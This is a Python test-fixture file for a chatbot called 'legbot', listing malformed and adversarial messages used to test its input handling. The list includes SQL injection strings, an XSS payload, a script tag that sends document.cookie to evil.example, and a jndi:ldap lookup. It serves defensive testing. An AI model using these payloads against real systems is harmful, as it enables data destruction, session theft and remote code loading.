"""Messages nobody should send, which somebody will: the corpus every input path is tested with
(REST, socket.io, `legbot parse` and `legbot assess`)."""

BAD_TEXTS = {
    "empty": "",
    "whitespace": " \t \n ",
    "100 kB": "my calves ache at night. " + "x" * 100_000,
    "binary": "\x00\x01\x02\x7f\xfe\x03 \x1b[31m",
    "emoji": "😭🦵🔥🔥 legs 😩",
    "arabic (right to left)": "ساقي تؤلمني في الليل",
    "hebrew (right to left)": "הרגליים שלי כואבות בלילה",
    "cjk": "我的腿晚上很痛",
    "sql": "'; DROP TABLE events; -- my calves ache",
    "sql union": "1 UNION SELECT password FROM users --",
    "html": "<b>my legs</b> <img src=x onerror=alert(1)>",
    "script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "broken json quoting": '{"message": "my legs ache\\", "sender": "x"',
    "5,000-character word": "a" * 5000,
    "control characters": "my legs\u0007\u0008 ache\u200b\u202e at night",
    "template injection": "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n",
}

# Raw request bodies for the REST webhook that are not a valid message at all.
BAD_BODIES = {
    "not json": b"my legs ache",
    "truncated json": b'{"sender": "x", "message": "my legs',
    "json array": b'["my legs ache"]',
    "wrong types": b'{"sender": 42, "message": {"text": "legs"}}',
    "invalid utf-8": b'{"sender": "x", "message": "\xff\xfe legs"}',
    "empty body": b"",
}
